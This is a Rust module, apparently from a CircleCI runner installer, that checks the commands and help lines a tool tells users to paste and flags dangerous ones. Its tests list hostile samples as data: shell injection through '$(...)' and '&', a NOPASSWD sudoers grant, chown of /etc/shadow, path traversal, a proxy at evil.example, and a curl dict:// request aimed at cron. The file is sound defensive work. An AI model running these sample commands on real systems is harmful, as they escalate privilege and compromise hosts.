//! Commands that a person is told to paste, judged by what they say. What they do is judged by
//! pasting them.

use super::outside::is_own;
use serde_json::Value;
use std::{collections::BTreeSet, path::Path};

/// First words of commands that are known. What a command runs through `sudo` counts as its own.
const KNOWN: [&str; 46] = [
    "apt-get",
    "ausearch",
    "cat",
    "chmod",
    "chown",
    "chsh",
    "circleci",
    "cp",
    "curl",
    "dd",
    "df",
    "dpkg",
    "du",
    "echo",
    "getent",
    "grep",
    "id",
    "install",
    "ip",
    "journalctl",
    "kill",
    "ls",
    "mkdir",
    "mkhomedir_helper",
    "mkswap",
    "mount",
    "mv",
    "openssl",
    "ps",
    "restorecon",
    "rm",
    "runnerup",
    "sepolicy",
    "ss",
    "sudoedit",
    "swapon",
    "systemctl",
    "systemd-analyze",
    "tail",
    "tee",
    "timedatectl",
    "update-ca-certificates",
    "useradd",
    "usermod",
    "vi",
    "visudo",
];

/// Those that change what their words name.
const CHANGING: [&str; 20] = [
    "chmod",
    "chown",
    "chsh",
    "cp",
    "install",
    "launchctl",
    "ln",
    "mkdir",
    "mkhomedir_helper",
    "mount",
    "mv",
    "plutil",
    "rm",
    "setfacl",
    "sudoedit",
    "systemctl",
    "tee",
    "userdel",
    "usermod",
    "visudo",
];

/// Where a package has its unit.
const PACKAGED: &str = "/usr/lib/systemd/system/circleci";

/// Commands that say the same on every host, and name what they change.
const FIXED: [&str; 2] = [
    "sudo cp AUTHORITY.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates",
    "ps -eo pid,ppid,stat,comm | grep ' Z'",
];

/// Every command in findings, and the one that the report ends with.
pub fn of(findings: &[Value], report: &str) -> BTreeSet<String> {
    let remedies = findings.iter().filter_map(|finding| finding["remedy"]["commands"].as_array());
    let mut commands: BTreeSet<String> =
        remedies.flatten().filter_map(|command| command.as_str().map(str::to_owned)).collect();
    // What a finding quotes may have the same words; it begins no row.
    let end = report.rsplit_once("\nIf nothing is done: ").map_or("", |(_, end)| end);
    if let Some((_, next)) = report.rsplit_once("\nNext: ").or(end.rsplit_once(" Next: ")) {
        commands.insert(next.split_whitespace().collect::<Vec<_>>().join(" "));
    }
    commands
}

/// Places of others, which no option may name because an account did; a new folder in them, which
/// takes nothing from anybody, it may.
const SYSTEM: [&str; 5] = ["/etc/", "/home/mallory/", "/root/", "/srv/victims/", "/usr/"];

/// What is wrong with the lines that help against an error: commands behind a word or two on what
/// they are for, and options.
pub fn dangers_of_help(text: &str) -> Vec<String> {
    let helps = text.lines().filter_map(|line| line.trim().strip_prefix("help: "));
    let danger = |help: &str| {
        let starts = |word: &str| word == "sudo" || CHANGING.contains(&word);
        let mut words = help.split(' ').filter(|word| !word.is_empty());
        if let Some(first) = words.clone().find(|word| starts(word)) {
            let command = &help[help.find(first)?..];
            return Some(format!("{help:?}: {}", danger(command)?));
        }
        let option = words.next().filter(|word| word.starts_with("--"))?;
        let value = help[option.len()..].trim();
        let is_system =
            SYSTEM.iter().any(|folder| value.starts_with(folder)) && !value.contains("/new/");
        let is_odd = value.contains(['\'', '$', '`', '&', ';', '|']);
        (is_system || is_odd).then(|| format!("{help:?}: an option with what an account wrote"))
    };
    helps.filter_map(danger).collect()
}

/// What is wrong with commands by what they say.
pub fn dangers(commands: &BTreeSet<String>) -> Vec<String> {
    let danger = |command: &String| Some(format!("{command:?}: {}", danger(command)?));
    commands.iter().filter_map(danger).collect()
}

fn danger(command: &str) -> Option<String> {
    if FIXED.contains(&command) {
        return None;
    }
    if command.chars().any(char::is_control) {
        return Some("has a control character".to_owned());
    }
    let parts = match parts(command) {
        Ok(parts) => parts,
        Err(why) => return Some(why),
    };
    parts.iter().find_map(|words| danger_of(words))
}

/// Of one simple command.
fn danger_of(words: &[String]) -> Option<String> {
    let mut words = words.iter().map(String::as_str).peekable();
    let (mut is_roots, mut is_accounts) = (true, false);
    while let Some(word) = words.peek().copied() {
        let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_uppercase() || c == '_')
        });
        match word {
            "sudo" => drop(words.next()),
            // What sudo lists of an account changes nothing.
            "-l" => return None,
            "-u" => {
                words.next();
                is_accounts = true;
                is_roots = words.next().is_none_or(|user| user != "circleci");
            }
            "--" | "-n" => drop(words.next()),
            _ if is_assignment => drop(words.next()),
            _ => break,
        }
    }
    let program = words.next().unwrap_or_default();
    // At a terminal, with the settings of the account.
    if is_accounts && ["ed", "nano", "sh", "bash", "vi", "vim"].contains(&program) {
        return Some(format!("runs {program} as an account"));
    }
    let rest: Vec<&str> = words.clone().collect();
    if program == "runnerup" && rest.contains(&"--passwordless-sudo") {
        return Some("gives the right to become root".to_owned());
    }
    let has = |wrong: &dyn Fn(&str) -> bool| rest.iter().copied().find(|word| wrong(word));
    // A package is known by its name; a file, a version or a removal is an attack.
    let is_package = |word: &str| {
        ["install", "bash", "git", "gzip", "openssh-client", "tar", "sudo", "chrony"]
            .contains(&word)
    };
    if program == "apt-get" && has(&|word| !is_package(word)).is_some() {
        return Some("has another package installed, or removed".to_owned());
    }
    let is_foreign = |word: &str| {
        word.contains("://") && !word.starts_with("http://") && !word.starts_with("https://")
    };
    if program == "curl" && has(&is_foreign).is_some() {
        return Some("speaks another protocol than HTTP".to_owned());
    }
    let is_unsafe = |word: &str| matches!(word, "777" | "666" | "7777" | "4755" | "2755" | "775");
    if program == "chmod" && has(&is_unsafe).is_some() {
        return Some("lets others write, or keeps a special bit".to_owned());
    }
    if program == "runnerup" && rest.windows(2).any(|own| own[0] == "--proxy") {
        return Some("sets a proxy of somebody's".to_owned());
    }
    if !KNOWN.contains(&program) {
        return Some(format!("{program:?} is no known command"));
    }
    if !is_roots || !CHANGING.contains(&program) {
        return None;
    }
    let strange = |word: &&str| {
        let path = word.split_once('=').filter(|_| word.starts_with('-')).map_or(*word, |(_, p)| p);
        path.contains('/')
            && path != "/dev/null"
            && !is_own(Path::new(path))
            && !path.starts_with(PACKAGED)
    };
    let words: Vec<&str> = words.collect();
    if let Some(word) = words.iter().find(|word| strange(word)) {
        return Some(format!("changes {word}, which is not the install's"));
    }
    let is_other = |word: &&str| !word.starts_with('-') && !word.contains('/');
    match program {
        "chsh" | "usermod" | "userdel" | "mkhomedir_helper" => {
            let user = words.iter().rev().find(|word| is_other(word)).copied().unwrap_or_default();
            (user != "circleci").then(|| format!("changes the account {user}"))
        }
        // Its words after the verb are units.
        "systemctl" => {
            let unit = words.iter().copied().filter(is_other).nth(1)?;
            let is_own = unit == "circleci"
                || unit.starts_with("circleci.service")
                || unit.starts_with("circleci-") && unit.ends_with(".service");
            (!is_own).then(|| format!("acts on the unit {unit}"))
        }
        _ => None,
    }
}

/// The simple commands of a line and their words, as a shell takes them; an error for what has
/// more meaning to a shell than quotes, pipes and `&&` have.
fn parts(command: &str) -> Result<Vec<Vec<String>>, String> {
    let mut parts = vec![Vec::new()];
    let mut word: Option<String> = None;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err("has a quote that does not end".to_owned()),
                    }
                }
            }
            '\\' => word.get_or_insert_default().extend(chars.next()),
            ' ' => parts.last_mut().unwrap().extend(word.take()),
            '#' if word.is_none() => break,
            '|' if word.is_none() => parts.push(Vec::new()),
            '&' if word.is_none() && chars.next_if_eq(&'&').is_some() => parts.push(Vec::new()),
            '<' if word.is_none() => {}
            ';' | '&' | '|' | '<' | '>' | '$' | '`' | '(' | ')' | '*' | '?' | '[' | ']' | '{'
            | '}' | '~' | '"' | '!' => {
                return Err(format!("has {c:?}, which means something to a shell"));
            }
            c => word.get_or_insert_default().push(c),
        }
    }
    parts.last_mut().unwrap().extend(word);
    Ok(parts)
}

/// The words of a command, unless it says more than words.
pub fn words(command: &str) -> Option<Vec<String>> {
    parts(command).ok().map(|parts| parts.concat())
}

/// A text as one word of a shell command.
pub fn word(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[test]
fn what_is_dangerous_in_help_is_known() {
    for harmless in [
        "--workdir /opt/jobs   # if it is meant",
        "look at it: ls -ld /etc/cron.d",
        "install the package passwd",
        "runnerup explain E3001",
    ] {
        assert_eq!(
            dangers_of_help(&format!("error: x\n  help: {harmless}\n")).len(),
            0,
            "{harmless}"
        );
    }
    for harmful in [
        "or hand it over yourself: chown circleci: /etc/cron.d",
        "--workdir /etc/cron.d/x   # if it is meant",
        "--log-file /srv/x$(touch /root/x)   # if it is meant",
        "to take it away: sudo rm /etc/shadow",
    ] {
        assert_eq!(
            dangers_of_help(&format!("error: x\n  help: {harmful}\n")).len(),
            1,
            "{harmful}"
        );
    }
}

#[test]
fn what_is_dangerous_is_known() {
    for harmless in [
        "sudo systemctl restart circleci.service",
        "sudo chown circleci: /var/opt/circleci/workdir",
        "sudo -u circleci rm -r /srv/x",
        "curl -sS -o /dev/null -w '%{http_code}\\n' 'http://x/?a&b'",
        "sudo runnerup doctor --fix",
        "sudoedit -u circleci /etc/opt/circleci/launch-agent-config.yaml",
        "sudo -l -U root",
        "sudo apt-get install git openssh-client",
        "sudo chmod 711 /opt/circleci",
        FIXED[0],
    ] {
        assert_eq!(danger(harmless), None, "{harmless}");
    }
    for harmful in [
        "sudo -u circleci vi /etc/opt/circleci/launch-agent-config.yaml",
        "sudo runnerup install --passwordless-sudo",
        "sudo chown circleci: /etc/shadow",
        "sudo chmod 711 /var/opt/circleci/../../../etc",
        "sudo systemctl restart circleci.service$(touch /tmp/x)",
        "curl http://x/?a&touch /root/x&",
        "sudo usermod --shell /bin/bash www-data",
        "sudo chsh --shell /bin/bash www-data",
        "sudo systemctl restart dbus.service",
        "echo 'circleci ALL=(ALL) NOPASSWD: ALL' | sudo EDITOR='tee' visudo -f /etc/sudoers.d/circleci",
        "touch /root/x",
        "sudo apt-get install /tmp/git.deb openssh-client",
        "sudo apt-get install sudo-",
        "sudo chmod 777 /opt/circleci",
        "sudo runnerup install --proxy http://evil.example:3128",
        "curl -sS dict://127.0.0.1:11211/config:set:dir:/etc/cron.d",
        "echo a\nid",
    ] {
        assert!(danger(harmful).is_some(), "{harmful}");
    }
}
